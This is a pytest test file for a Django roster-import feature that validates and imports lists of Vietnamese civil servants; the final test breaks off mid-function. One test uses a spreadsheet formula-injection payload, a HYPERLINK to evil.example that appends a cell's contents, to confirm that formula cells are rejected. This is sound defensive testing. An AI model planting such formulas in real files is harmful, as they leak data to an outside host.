"""Roster imports (issue 4): the HR office's list of civil servants, checked first, then imported all or nothing."""

import csv
import datetime
import io

import openpyxl
import pytest
from django.contrib.auth.models import Group
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from django.utils.html import escape
from django.utils.translation import gettext

from accounts import roles
from accounts.models import RosterImport, User
from accounts.roster.messages import roster_message, roster_summary_errors
from accounts.roster.planning import roster_plan
from accounts.roster.reading import roster_read
from accounts.roster.services import (
    roster_import_apply,
    roster_import_apply_start,
    roster_import_check,
    roster_import_create,
    roster_imports_resume,
)
from accounts.roster.tasks import roster_apply, roster_check
from accounts.roster.tasks import roster_imports_resume as roster_imports_resume_task
from tests.accounts.factories import OrganisationUnitFactory, UserFactory
from tests.support.waiting import wait_until

pytestmark = pytest.mark.django_db

EN = ["Full name", "Employee code", "Email", "Phone", "Unit code", "Position", "Start date"]
VI = ["Họ và tên", "Mã cán bộ", "Email", "Số điện thoại", "Mã đơn vị", "Chức vụ", "Ngày bắt đầu"]

# The people-changed hook, recorded instead of assigning training (courses is not under test here).
CALLS = []


def record_people_changed(user_ids):
    CALLS.append(sorted(user_ids))


def changed_ids():
    return sorted(user_id for call in CALLS for user_id in call)


@pytest.fixture(autouse=True)
def _record_hooks(settings):
    settings.ACCOUNTS_PEOPLE_CHANGED_HOOKS = ["tests.accounts.roster.test_roster.record_people_changed"]
    CALLS.clear()
    yield
    CALLS.clear()


@pytest.fixture
def units(db):
    province = OrganisationUnitFactory(code="TINH-01", name="Tỉnh Thử Nghiệm")
    return {
        "TINH-01": province,
        "XA-001": OrganisationUnitFactory(parent=province, code="XA-001", name="Xã Một"),
        "XA-002": OrganisationUnitFactory(parent=province, code="XA-002", name="Xã Hai"),
    }


@pytest.fixture
def trainer(db):
    return UserFactory(email="daotao@example.gov.vn", training_admin=True)


def person(n, unit="XA-001", **overrides):
    row = {
        "Full name": f"Nguyễn Văn {n}",
        "Employee code": f"CB{n:04d}",
        "Email": f"nv{n}@example.gov.vn",
        "Phone": f"09{n:08d}",
        "Unit code": unit,
        "Position": "Chuyên viên",
        "Start date": "01/09/2024",
    }
    row.update(overrides)
    return [row[header] for header in EN]


def csv_bytes(rows, headers=EN, bom=False, delimiter=","):
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter)
    writer.writerow(headers)
    writer.writerows(rows)
    data = out.getvalue().encode()
    return b"\xef\xbb\xbf" + data if bom else data


def xlsx_bytes(rows, headers=VI, title=None):
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    if title:
        sheet.append([title])
        sheet.append([])
    sheet.append(headers)
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def check(content, full_roster=False, user=None, name="roster.csv"):
    return roster_import_create(user=user, file_name=name, content=content, full_roster=full_roster)


def apply(roster_import):
    roster_import, started = roster_import_apply_start(import_id=roster_import.pk)
    assert started
    return roster_import


def import_file(content, **kwargs):
    roster_import = check(content, **kwargs)
    assert roster_import.status == RosterImport.Status.CHECKED, roster_import.summary
    assert roster_import.summary["counts"]["errors"] == 0, roster_import.summary["errors"]
    roster_import = apply(roster_import)
    assert roster_import.status == RosterImport.Status.APPLIED, roster_import.summary
    return roster_import


def snapshot():
    fields = ["pk", "employee_code", "full_name", "email", "phone", "organisation_unit_id", "position", "started_on"]
    fields += ["kind", "is_active", "password"]
    return list(User.objects.order_by("pk").values_list(*fields))


def error_codes(roster_import):
    return {(row, column, code) for row, column, _value, code, _params in roster_import.summary["errors"]}


# The dry run -----------------------------------------------------------------------


def test_dry_run_reports_every_wrong_row_and_writes_nothing(units, trainer):
    UserFactory(email="dang.ky@example.vn", phone="0910000001")  # signed up on the site, no employee code
    colleague = UserFactory(email="dongnghiep@example.gov.vn", phone="0910000002", employee_code="CB9999")
    rows = [
        person(1),  # row 2: fine
        person(2, **{"Full name": "  "}),  # 3
        person(3, **{"Employee code": ""}),  # 4
        person(4, **{"Employee code": "CB0005"}),  # 5: same code as row 6
        person(5),  # 6
        person(6, unit="XA-404"),  # 7
        person(7, Phone="12345"),  # 8
        person(8, Email="khong-phai-email"),  # 9
        person(9, Email="", Phone=""),  # 10
        person(10, **{"Start date": "31/02/2024"}),  # 11
        person(11, Email="dang.ky@example.vn"),  # 12: an account without employee code
        person(12, Phone="0910 000 002"),  # 13: the colleague's phone
        person(13, Email="NV1@example.gov.vn"),  # 14: row 2's email, in other case
        person(14, Phone="+84 91 000 0001"),  # 15: the signed-up account's phone, another spelling
        person(15, Email="dongnghiep@example.gov.vn"),  # 16: the colleague's email
    ]
    before = snapshot()
    roster_import = check(csv_bytes(rows), user=trainer)

    assert roster_import.status == RosterImport.Status.CHECKED
    assert error_codes(roster_import) == {
        (3, "full_name", "name_missing"),
        (4, "employee_code", "code_missing"),
        (5, "employee_code", "code_duplicate"),
        (6, "employee_code", "code_duplicate"),
        (7, "unit_code", "unit_unknown"),
        (8, "phone", "phone_invalid"),
        (9, "email", "email_invalid"),
        (10, "email", "contact_missing"),
        (11, "started_on", "date_invalid"),
        (12, "email", "email_taken_account"),
        (13, "phone", "phone_taken"),
        (2, "email", "email_duplicate"),
        (14, "email", "email_duplicate"),
        (15, "phone", "phone_taken_account"),
        (16, "email", "email_taken"),
    }
    counts = roster_import.summary["counts"]
    assert counts["rows"] == 15
    assert counts["error_rows"] == 15
    assert counts["create"] == 0
    # The reasons name the other row or person.
    by_row = {row: (code, params) for row, _column, _value, code, params in roster_import.summary["errors"]}
    assert by_row[5] == ("code_duplicate", {"other": 6})
    assert roster_message(*by_row[16]) == gettext(
        "This email address belongs to another person (employee code %(code)s)."
    ) % {"code": colleague.employee_code}
    # Nothing written, nothing importable, the file forgotten.
    assert snapshot() == before
    assert CALLS == []
    assert roster_import.content is None
    same, started = roster_import_apply_start(import_id=roster_import.pk)
    assert not started
    assert same.status == RosterImport.Status.CHECKED
    assert snapshot() == before


def test_dry_run_lists_every_error_of_a_row_at_once(units, trainer):
    """An unknown unit code (or a taken email, a duplicate code) shows with the row's other errors, not after."""
    UserFactory(email="dongnghiep@example.gov.vn", employee_code="CB9999")
    rows = [
        person(1, unit="XA-404", Phone="12345", Email="dongnghiep@example.gov.vn"),  # row 2
        person(2, unit="XA-404", **{"Full name": "", "Start date": "31/02/2024"}),  # 3
        person(3, **{"Employee code": "CB0004", "Start date": "hôm qua"}),  # 4: same code as row 5
        person(4),  # 5
        person(5, unit="", Email="sai"),  # 6: no unit code at all: "missing", not "unknown"
    ]
    roster_import = check(csv_bytes(rows), user=trainer)
    assert error_codes(roster_import) == {
        (2, "unit_code", "unit_unknown"),
        (2, "phone", "phone_invalid"),
        (2, "email", "email_taken"),
        (3, "full_name", "name_missing"),
        (3, "unit_code", "unit_unknown"),
        (3, "started_on", "date_invalid"),
        (4, "employee_code", "code_duplicate"),
        (4, "started_on", "date_invalid"),
        (5, "employee_code", "code_duplicate"),
        (6, "unit_code", "unit_missing"),
        (6, "email", "email_invalid"),
    }
    # Shown row by row, in the columns' order.
    assert [error[:2] for error in roster_import.summary["errors"][:3]] == [
        [2, "email"],
        [2, "phone"],
        [2, "unit_code"],
    ]
    assert roster_import.summary["counts"]["error_rows"] == 5


def test_dry_run_lists_what_would_change_without_writing(units):
    moved = UserFactory(
        email="nv1@example.gov.vn", employee_code="CB0001", kind=User.Kind.CIVIL_SERVANT, full_name="Nguyễn Văn 1"
    )
    moved.organisation_unit = units["XA-002"]
    moved.save()
    before = snapshot()
    roster_import = check(csv_bytes([person(1), person(2)]))
    summary = roster_import.summary
    assert summary["counts"] | {"rows": 2} == {
        "rows": 2,
        "create": 1,
        "update": 1,
        "reactivate": 0,
        "unchanged": 0,
        "deactivate": 0,
        "error_rows": 0,
        "errors": 0,
    }
    assert summary["create"] == [[3, "CB0002", "Nguyễn Văn 2", "XA-001"]]
    (update,) = summary["update"]
    changes = {key: (old, new) for key, old, new in update[3]}
    assert changes["organisation_unit"] == ("XA-002", "XA-001")
    assert changes["position"] == ("", "Chuyên viên")
    assert changes["started_on"] == ("", "01/09/2024")
    assert "groups" in changes and "kind" not in changes
    assert snapshot() == before
    assert roster_import.content is not None  # kept until imported


def test_plan_uses_a_fixed_number_of_queries(units):
    def queries(count):
        roster = roster_read(csv_bytes([person(n) for n in range(1, count + 1)]))
        with CaptureQueriesContext(connection) as captured:
            roster_plan(roster=roster, full_roster=True)
        return len(captured)

    UserFactory.create_batch(5, kind=User.Kind.CIVIL_SERVANT, employee_code=None)
    assert queries(5) == queries(300)
    assert queries(300) <= 8


# Applying --------------------------------------------------------------------------


def test_import_creates_civil_servants(units, trainer):
    rows = [
        person(1),
        person(2, Email="", Phone="0912.345.678"),
        person(3, Email="Mixed.Case@Example.GOV.vn", Phone=""),
    ]
    roster_import = import_file(csv_bytes(rows), user=trainer)

    assert roster_import.content is None
    assert roster_import.applied_at is not None
    assert roster_import.summary["counts"]["create"] == 3
    people = {user.employee_code: user for user in User.objects.filter(employee_code__isnull=False)}
    assert set(people) == {"CB0001", "CB0002", "CB0003"}
    first = people["CB0001"]
    assert first.full_name == "Nguyễn Văn 1"
    assert first.kind == User.Kind.CIVIL_SERVANT
    assert first.organisation_unit == units["XA-001"]
    assert first.position == "Chuyên viên"
    assert first.started_on == datetime.date(2024, 9, 1)
    assert first.is_active
    assert not first.has_usable_password()
    assert first.privacy_consent_at is None
    assert people["CB0002"].email is None and people["CB0002"].phone == "0912345678"
    assert people["CB0003"].email == "mixed.case@example.gov.vn" and people["CB0003"].phone is None
    civil_servants = Group.objects.get(name=roles.CIVIL_SERVANT)
    assert all(civil_servants in user.groups.all() for user in people.values())
    # They can sign in by phone once a password is set (the same canonical forms as User.save).
    assert User.objects.get_by_identifier("0912 345 678") == people["CB0002"]
    assert changed_ids() == sorted(user.pk for user in people.values())


def test_reimporting_the_same_file_changes_nothing(units):
    content = csv_bytes([person(n) for n in range(1, 21)])
    import_file(content)
    before = snapshot()
    CALLS.clear()

    again = import_file(content)

    counts = again.summary["counts"]
    assert (counts["create"], counts["update"], counts["reactivate"], counts["deactivate"]) == (0, 0, 0, 0)
    assert counts["unchanged"] == 20
    assert snapshot() == before
    assert CALLS == []


def test_updates_are_detected_and_empty_cells_erase_nothing(units):
    import_file(csv_bytes([person(1), person(2), person(3), person(4)]))
    ids = dict(User.objects.filter(employee_code__isnull=False).values_list("employee_code", "pk"))
    CALLS.clear()
    rows = [
        person(1, unit="XA-002"),  # moved: training may change
        person(2, **{"Full name": "Nguyễn Thị Hai"}),  # renamed only
        person(3, Position="", **{"Start date": ""}, Phone=""),  # empty cells: nothing erased
        person(4, Position="Trưởng phòng", **{"Start date": "2025-01-15"}),
    ]
    roster_import = check(csv_bytes(rows))
    updates = {item[1]: {key for key, _old, _new in item[3]} for item in roster_import.summary["update"]}
    assert updates == {
        "CB0001": {"organisation_unit"},
        "CB0002": {"full_name"},
        "CB0004": {"position", "started_on"},
    }
    assert roster_import.summary["counts"]["unchanged"] == 1
    apply(roster_import)

    people = {user.employee_code: user for user in User.objects.filter(employee_code__isnull=False)}
    assert people["CB0001"].organisation_unit == units["XA-002"]
    assert people["CB0002"].full_name == "Nguyễn Thị Hai"
    assert people["CB0003"].position == "Chuyên viên"
    assert people["CB0003"].started_on == datetime.date(2024, 9, 1)
    assert people["CB0003"].phone == "0900000003"
    assert (people["CB0004"].position, people["CB0004"].started_on) == ("Trưởng phòng", datetime.date(2025, 1, 15))
    # The hook hears about unit, position and start-date changes, not a new spelling of a name.
    assert changed_ids() == sorted([ids["CB0001"], ids["CB0004"]])


def test_full_roster_deactivates_never_deletes_and_a_later_import_reactivates(units):
    import_file(csv_bytes([person(1), person(2), person(3)]))
    ids = dict(User.objects.filter(employee_code__isnull=False).values_list("employee_code", "pk"))
    boss = UserFactory(employee_code="ADMIN1", kind=User.Kind.CIVIL_SERVANT, is_superuser=True)
    citizen = UserFactory()
    CALLS.clear()

    # Not a full roster: nobody is deactivated.
    partial = import_file(csv_bytes([person(1)]))
    assert partial.summary["counts"]["deactivate"] == 0
    assert User.objects.filter(is_active=True).count() == 5

    full = check(csv_bytes([person(1)]), full_roster=True)
    assert full.summary["counts"]["deactivate"] == 2
    assert full.summary["deactivate"] == [["CB0002", "Nguyễn Văn 2"], ["CB0003", "Nguyễn Văn 3"]]
    assert User.objects.filter(is_active=True).count() == 5  # a dry run
    apply(full)
    assert User.objects.filter(pk__in=[ids["CB0002"], ids["CB0003"]], is_active=False).count() == 2
    assert User.objects.filter(pk__in=ids.values()).count() == 3  # kept, not deleted
    assert User.objects.get(pk=boss.pk).is_active  # a superuser is never deactivated by an import
    assert User.objects.get(pk=citizen.pk).is_active  # nor anyone without an employee code
    assert changed_ids() == sorted([ids["CB0002"], ids["CB0003"]])
    CALLS.clear()

    back = check(csv_bytes([person(1), person(2, unit="XA-002")]))
    assert back.summary["counts"]["reactivate"] == 1
    assert back.summary["reactivate"][0][1] == "CB0002"
    apply(back)
    returned = User.objects.get(pk=ids["CB0002"])
    assert returned.is_active and returned.organisation_unit == units["XA-002"]
    assert not User.objects.get(pk=ids["CB0003"]).is_active
    assert changed_ids() == [ids["CB0002"]]


def test_a_row_with_an_error_does_not_count_as_missing_from_a_full_roster(units):
    import_file(csv_bytes([person(1), person(2)]))
    roster_import = check(csv_bytes([person(1), person(2, Phone="123")]), full_roster=True)
    assert roster_import.summary["counts"]["deactivate"] == 0
    assert roster_import.summary["counts"]["error_rows"] == 1


def test_commit_is_all_or_nothing_when_the_database_changed_since_the_check(units):
    roster_import = check(csv_bytes([person(1), person(2), person(3)]))
    assert roster_import.summary["counts"]["create"] == 3
    # Meanwhile someone signs up with the address row 3 uses.
    UserFactory(email="nv3@example.gov.vn")
    before = snapshot()

    roster_import = apply(roster_import)

    assert roster_import.status == RosterImport.Status.FAILED
    assert roster_import.summary["file_error"]["code"] == "changed"
    assert error_codes(roster_import) == {(4, "email", "email_taken_account")}
    assert snapshot() == before
    assert CALLS == []


def failing_hook(user_ids):
    raise RuntimeError("the hook broke")


def test_commit_is_all_or_nothing_when_writing_fails(units, settings):
    import_file(csv_bytes([person(1)]))
    before = snapshot()
    settings.ACCOUNTS_PEOPLE_CHANGED_HOOKS = ["tests.accounts.roster.test_roster.failing_hook"]
    rows = [person(1, unit="XA-002"), *(person(n) for n in range(2, 30))]
    roster_import = check(csv_bytes(rows), full_roster=True)

    roster_import = apply(roster_import)  # writes everything, then the hook fails: rolled back

    assert roster_import.status == RosterImport.Status.FAILED
    assert roster_import.summary["file_error"]["code"] == "internal"
    assert roster_import.content is None
    assert snapshot() == before


def test_importing_twice_imports_once(units):
    roster_import = check(csv_bytes([person(1), person(2)]))
    apply(roster_import)
    before = snapshot()
    again, started = roster_import_apply_start(import_id=roster_import.pk)
    assert not started
    assert again.status == RosterImport.Status.APPLIED
    # The tasks too: a duplicate delivery finds the work done.
    roster_import_apply(import_id=roster_import.pk)
    roster_apply(roster_import.pk)
    roster_check(roster_import.pk)
    roster_import_check(import_id=roster_import.pk)
    assert snapshot() == before
    assert RosterImport.objects.get(pk=roster_import.pk).status == RosterImport.Status.APPLIED


def test_a_check_not_imported_within_a_day_forgets_the_file(units):
    stale = check(csv_bytes([person(1)]))
    RosterImport.objects.filter(pk=stale.pk).update(uploaded_at=stale.uploaded_at - datetime.timedelta(days=2))
    check(csv_bytes([person(2)]))
    stale.refresh_from_db()
    assert stale.status == RosterImport.Status.FAILED
    assert stale.content is None
    assert stale.summary["file_error"]["code"] == "expired"


def lost(roster_import, status, minutes):
    """As if the task of this import had been lost ``minutes`` ago, in ``status``."""
    when = timezone.now() - datetime.timedelta(minutes=minutes)
    RosterImport.objects.filter(pk=roster_import.pk).update(status=status, updated_at=when)
    return when


def test_a_lost_import_is_resumed_and_one_lost_for_an_hour_is_given_up(units, django_capture_on_commit_callbacks):
    now = timezone.now()
    resumed_import = check(csv_bytes([person(1)]))
    lost(resumed_import, RosterImport.Status.APPLYING, 15)
    resumed_check = check(csv_bytes([person(2)]))
    lost(resumed_check, RosterImport.Status.CHECKING, 30)
    running = check(csv_bytes([person(3)]))
    lost(running, RosterImport.Status.APPLYING, 2)  # still within the stall time: left alone
    abandoned = check(csv_bytes([person(4)]))
    lost(abandoned, RosterImport.Status.APPLYING, 61)

    with django_capture_on_commit_callbacks() as callbacks:
        resumed, given_up = roster_imports_resume(now=now)
    assert resumed == [resumed_import.pk, resumed_check.pk]
    assert given_up == [abandoned.pk]
    assert len(callbacks) == 2  # one task each, sent after the commit
    abandoned.refresh_from_db()
    assert abandoned.status == RosterImport.Status.FAILED and abandoned.content is None
    assert abandoned.summary["file_error"]["code"] == "interrupted"
    assert abandoned.error == roster_message("interrupted")
    running.refresh_from_db()
    assert running.status == RosterImport.Status.APPLYING
    assert not User.objects.filter(employee_code="CB0004").exists()

    # What the resumed task does: the import finishes; the check is found done and not redone.
    roster_apply(resumed_import.pk)
    resumed_import.refresh_from_db()
    assert resumed_import.status == RosterImport.Status.APPLIED
    assert User.objects.filter(employee_code="CB0001").exists()
    roster_check(resumed_check.pk)
    resumed_check.refresh_from_db()
    assert resumed_check.status == RosterImport.Status.CHECKED
    # Finished imports are not touched by later passes.
    assert roster_imports_resume(now=now + datetime.timedelta(days=1)) == ([], [running.pk])


def test_the_check_saves_its_progress_in_chunks(units):
    roster_import = RosterImport.objects.create(
        file_name="r.csv", content=csv_bytes([person(n) for n in range(1, 2501)]), status=RosterImport.Status.CHECKING
    )
    with CaptureQueriesContext(connection) as captured:
        roster_import_check(import_id=roster_import.pk)
    progress = [
        query["sql"]
        for query in captured
        if query["sql"].startswith('UPDATE "accounts_rosterimport"') and "processed_rows" in query["sql"]
    ]
    # 0, 1,000, 2,000 and 2,500 rows read, then the result: a page polling the import sees it move.
    assert len(progress) == 5
    roster_import.refresh_from_db()
    assert (roster_import.processed_rows, roster_import.total_rows) == (2500, 2500)


# Files -----------------------------------------------------------------------------


def test_csv_with_bom_vietnamese_headers_semicolons_and_a_title(units):
    text = "\ufeffDANH SÁCH CÁN BỘ, CÔNG CHỨC\n\n" + csv_bytes(
        [person(1, **{"Start date": "2023-04-05"}), person(2)], headers=VI, delimiter=";"
    ).decode().replace("\r\n", "\n")
    roster = roster_read(text.encode())
    assert roster.errors == []
    assert [row.number for row in roster.rows] == [4, 5]
    assert roster.rows[0].started_on == datetime.date(2023, 4, 5)
    assert roster.rows[0].full_name == "Nguyễn Văn 1"
    import_file(text.encode())
    assert User.objects.filter(employee_code__in=["CB0001", "CB0002"]).count() == 2


@pytest.mark.parametrize(
    "headers",
    [
        ["HỌ VÀ TÊN", "MÃ NHÂN VIÊN", "E-mail", "Điện thoại", "MÃ ĐƠN VỊ", "Chức danh", "Ngày vào làm"],
        ["full name", "EMPLOYEE CODE", "email", "phone number", "unit code", "position", "start date"],
        ["Ho va ten", "Ma can bo", "Email", "So dien thoai", "Ma don vi", "Chuc vu", "Ngay bat dau"],
    ],
)
def test_headers_in_either_language_any_case_with_or_without_diacritics(units, headers):
    roster = roster_read(csv_bytes([person(1)], headers=headers))
    assert roster.columns == ["full_name", "employee_code", "email", "phone", "unit_code", "position", "started_on"]
    assert roster.errors == []


def test_xlsx_with_title_row_real_dates_and_numbers(units):
    rows = [
        ["Lê Thị Ba", "CB0003", "", 912345678, "XA-002", "Văn thư", datetime.datetime(2022, 3, 1)],
        ["Phạm Văn Bốn", 4, "bon@example.gov.vn", None, "XA-001", None, "15/06/2020"],
        [None, None, None, None, None, None, None],  # an empty row in the middle
        ["Hoàng Văn Năm", "CB0005", None, "0987654321", "XA-404", None, None],
    ]
    content = xlsx_bytes(rows, title="DANH SÁCH CÁN BỘ")
    roster_import = check(content, name="roster.xlsx")
    assert roster_import.summary["format"] == "xlsx"
    # Title, blank row, header: the data starts on row 4, and the empty row 6 still counts.
    assert error_codes(roster_import) == {(7, "unit_code", "unit_unknown")}

    roster_import = import_file(xlsx_bytes(rows[:2]), name="roster.xlsx")
    ba = User.objects.get(employee_code="CB0003")
    assert (ba.phone, ba.started_on, ba.organisation_unit.code) == ("0912345678", datetime.date(2022, 3, 1), "XA-002")
    assert User.objects.get(employee_code="4").email == "bon@example.gov.vn"


def test_a_formula_in_an_xlsx_cell_is_named_as_such(units):
    # Before: a formula cell read as empty ("the full name is missing").
    rows = [
        ['=HYPERLINK("https://evil.example/?x="&A1,"Bấm vào đây")', "=1+1", "ba@example.gov.vn", None, "XA-001"],
        ["Phạm Văn Bốn", "CB0004", "bon@example.gov.vn", None, "XA-001"],
    ]
    roster_import = check(xlsx_bytes(rows), name="roster.xlsx")
    assert error_codes(roster_import) == {(2, "full_name", "formula"), (2, "employee_code", "formula")}
    messages = {error["reason"] for error in roster_summary_errors(roster_import.summary)}
    assert (
        gettext("This cell holds a formula, not a value: type the value itself (or paste it as values only).")
        in messages
    )
    assert User.objects.filter(employee_code="CB0004").count() == 0  # checked, nothing written


def _xlsx_without_sheets():
    out = io.BytesIO()
    import zipfile

    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("hello.txt", "not a workbook")
    return out.getvalue()


PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (b"", "empty"),
        (b"   \n\n", "empty"),
        (PNG, "unreadable"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100, "xls"),
        (_xlsx_without_sheets(), "unreadable"),
        (b"PK\x03\x04 truncated", "unreadable"),
        ("Họ và tên,Mã cán bộ,Email\n".encode("utf-16"), "unreadable"),
        ("Họ và tên,Mã cán bộ,Email,Mã đơn vị\nNguyễn A,CB1,a@b.vn,X\n".encode("cp1258", "replace"), "encoding"),
        (b"name;age\nAn;30\n", "no_header"),
        ("Họ và tên,Mã cán bộ,Email\nA,CB1,a@b.vn\n".encode(), "missing_columns"),
        ("Họ và tên,Mã cán bộ,Mã đơn vị,Chức vụ\nA,CB1,XA-001,\n".encode(), "contact_columns"),
        ("Họ và tên,Họ tên,Mã cán bộ,Email,Mã đơn vị\n".encode(), "duplicate_columns"),
        ("Họ và tên,Mã cán bộ,Email,Mã đơn vị\n".encode(), "no_rows"),
        ("Họ và tên,Mã cán bộ,Email,Mã đơn vị\nA,CB1,a@b.vn,XA-001,x,y\n".encode(), "ragged"),
    ],
)
def test_unusable_files_fail_with_a_clear_message(units, content, code):
    before = snapshot()
    roster_import = check(content)
    assert roster_import.status == RosterImport.Status.FAILED
    assert roster_import.summary["file_error"]["code"] == code
    assert roster_import.error
    assert roster_import.content is None
    assert snapshot() == before


def test_too_many_rows(units, settings):
    settings.ROSTER_MAX_ROWS = 10
    roster_import = check(csv_bytes([person(n) for n in range(1, 12)]))
    assert roster_import.summary["file_error"] == {"code": "too_many_rows", "params": {"limit": 10}}
    roster_import = check(xlsx_bytes([person(n) for n in range(1, 40)]), name="r.xlsx")
    assert roster_import.summary["file_error"]["code"] == "too_many_rows"


# The admin -------------------------------------------------------------------------


def upload(client, content, name="roster.csv", full_roster=False):
    data = {"file": io.BytesIO(content)}
    data["file"].name = name
    if full_roster:
        data["full_roster"] = "on"
    return client.post(reverse("accounts_roster_upload"), data)


def test_admin_flow_upload_dry_run_import(client, units, trainer):
    client.force_login(trainer)
    index = client.get(reverse("accounts_roster_index"))
    assert index.status_code == 200
    assert reverse("accounts_roster_upload") in index.content.decode()
    form = client.get(reverse("accounts_roster_upload"))
    assert form.status_code == 200
    assert 'enctype="multipart/form-data"' in form.content.decode()
    assert "csrfmiddlewaretoken" in form.content.decode()

    response = upload(client, csv_bytes([person(1), person(2)]), full_roster=True)
    assert response.status_code == 302
    roster_import = RosterImport.objects.get()
    assert response["Location"] == reverse("accounts_roster_detail", args=[roster_import.pk])
    assert roster_import.uploaded_by == trainer and roster_import.full_roster
    assert not User.objects.filter(employee_code__isnull=False).exists()

    page = client.get(response["Location"])
    html = page.content.decode()
    assert page.status_code == 200
    assert 'data-count="create">2<' in html
    assert "Nguyễn Văn 2" in html
    assert 'id="roster-apply"' in html

    response = client.post(reverse("accounts_roster_apply", args=[roster_import.pk]))
    assert response.status_code == 302
    assert User.objects.filter(employee_code__in=["CB0001", "CB0002"], is_active=True).count() == 2
    html = client.get(response["Location"]).content.decode()
    assert 'data-status="applied"' in html
    assert 'id="roster-apply"' not in html
    # A second click changes nothing.
    client.post(reverse("accounts_roster_apply", args=[roster_import.pk]))
    assert User.objects.filter(employee_code__isnull=False).count() == 2
    assert roster_import.file_name in client.get(reverse("accounts_roster_index")).content.decode()


def test_admin_shows_the_error_table_and_no_import_button(client, units, trainer):
    client.force_login(trainer)
    response = upload(client, csv_bytes([person(1), person(2, unit="XA-404"), person(3, Phone="12")]))
    html = client.get(response["Location"]).content.decode()
    assert 'id="roster-errors"' in html
    assert escape(gettext("No organisation unit has this code.")) in html
    assert escape(gettext("This is not a Vietnamese phone number (for example 0912 345 678).")) in html
    assert "XA-404" in html
    assert 'id="roster-apply"' not in html
    roster_import = RosterImport.objects.get()
    client.post(reverse("accounts_roster_apply", args=[roster_import.pk]))
    assert not User.objects.filter(employee_code__isnull=False).exists()


@pytest.mark.parametrize(
    ("content", "name"),
    [(PNG, "photo.csv"), (b"", "empty.csv"), (b"garbage", "roster.xlsx"), ("Tên;Tuổi\nA;1\n".encode(), "r.csv")],
)
def test_admin_never_fails_on_a_bad_file(client, units, trainer, content, name):
    client.force_login(trainer)
    response = upload(client, content, name=name)
    assert response.status_code in (200, 302)
    if response.status_code == 302:
        page = client.get(response["Location"])
        assert page.status_code == 200
        html = page.content.decode()
        roster_import = RosterImport.objects.get()
        assert roster_import.status == RosterImport.Status.FAILED
        assert 'id="roster-file-error"' in html
        assert escape(roster_message(roster_import.summary["file_error"]["code"], {"headers": "x"}))[:40] in html
        assert 'id="roster-apply"' not in html
    else:
        assert response.context["form"].errors["file"]
        assert not RosterImport.objects.exists()


def test_admin_refuses_a_file_over_the_size_limit(client, units, trainer, settings):
    settings.ROSTER_MAX_UPLOAD_BYTES = 200
    client.force_login(trainer)
    response = upload(client, csv_bytes([person(n) for n in range(1, 20)]))
    assert response.status_code == 200
    assert response.context["form"].has_error("file", "too_big")
    assert not RosterImport.objects.exists()
    response = upload(client, b"whatever", name="roster.pdf")
    assert response.context["form"].has_error("file", "extension")


def test_forms_need_the_csrf_token(units, trainer):
    from django.test import Client

    client = Client(enforce_csrf_checks=True)
    client.force_login(trainer)
    assert upload(client, csv_bytes([person(1)])).status_code == 403
    roster_import = check(csv_bytes([person(1)]))
    assert client.post(reverse("accounts_roster_apply", args=[roster_import.pk])).status_code == 403
    assert RosterImport.objects.get(pk=roster_import.pk).status == RosterImport.Status.CHECKED
    assert not User.objects.filter(employee_code__isnull=False).exists()


def test_sample_csv_is_accepted(client, units, trainer):
    client.force_login(trainer)
    response = client.get(reverse("accounts_roster_sample"))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    content = response.content
    assert content.startswith(b"\xef\xbb\xbf")
    roster = roster_read(content)
    assert roster.errors == []
    assert len(roster.rows) == 2


def test_progress_page_refreshes_itself(client, trainer):
    roster_import = RosterImport.objects.create(
        file_name="big.csv", content=b"x", status=RosterImport.Status.CHECKING, total_rows=5000, processed_rows=2000
    )
    client.force_login(trainer)
    html = client.get(reverse("accounts_roster_detail", args=[roster_import.pk])).content.decode()
    assert '<meta http-equiv="refresh" content="2">' in html
    assert '<progress max="5000" value="2000">' in html


ROLES = ["superuser", roles.TRAINING_ADMINISTRATOR, roles.COMMUNICATIONS_STAFF, roles.UNIT_MANAGER]
ROLES += [roles.CIVIL_SERVANT, roles.CITIZEN]


@pytest.mark.parametrize("role", [None, *ROLES])
def test_only_training_administrators_and_superusers_reach_roster_imports(client, units, role):
    roster_import = check(csv_bytes([person(1)]))
    allowed = role in ("superuser", roles.TRAINING_ADMINISTRATOR)
    if role is not None:
        client.force_login(UserFactory(role=role))
    for url in (
        reverse("accounts_roster_index"),
        reverse("accounts_roster_upload"),
        reverse("accounts_roster_sample"),
        reverse("accounts_roster_detail", args=[roster_import.pk]),
    ):
        response = client.get(url)
        assert response.status_code == (200 if allowed else 302), (role, url)
        if role is None:
            assert "/admin/login/" in response["Location"]
    response = upload(client, csv_bytes([person(2)]))
    assert response.status_code == 302
    assert RosterImport.objects.count() == (2 if allowed else 1)
    if not allowed:
        client.post(reverse("accounts_roster_apply", args=[roster_import.pk]))
        assert RosterImport.objects.get(pk=roster_import.pk).status == RosterImport.Status.CHECKED
        assert not User.objects.filter(employee_code__isnull=False).exists()
    if role is not None:
        home = client.get("/admin/")
        shown = reverse("accounts_roster_index") in home.content.decode()
        assert shown == allowed, role


# The background path, through a real worker -----------------------------------------


def wait_for(roster_import, statuses, timeout=90):
    seen = set()

    def reached():
        roster_import.refresh_from_db()
        seen.add((roster_import.status, roster_import.processed_rows))
        return roster_import.status in statuses

    if wait_until(reached, timeout=timeout):
        return seen
    raise AssertionError(f"still {roster_import.status} after {timeout} s: {roster_import.error}")


@pytest.mark.worker
@pytest.mark.django_db(transaction=True, serialized_rollback=True)
def test_large_files_are_checked_and_imported_by_the_worker(celery_worker, client, settings):
    settings.ROSTER_ASYNC_ROWS = 100
    province = OrganisationUnitFactory(code="TINH-01")
    OrganisationUnitFactory(parent=province, code="XA-001")
    trainer = UserFactory(training_admin=True)
    client.force_login(trainer)
    rows = [person(n) for n in range(1, 2501)]

    response = upload(client, csv_bytes(rows))
    roster_import = RosterImport.objects.get()
    assert response.status_code == 302
    seen = wait_for(roster_import, {RosterImport.Status.CHECKED, RosterImport.Status.FAILED})
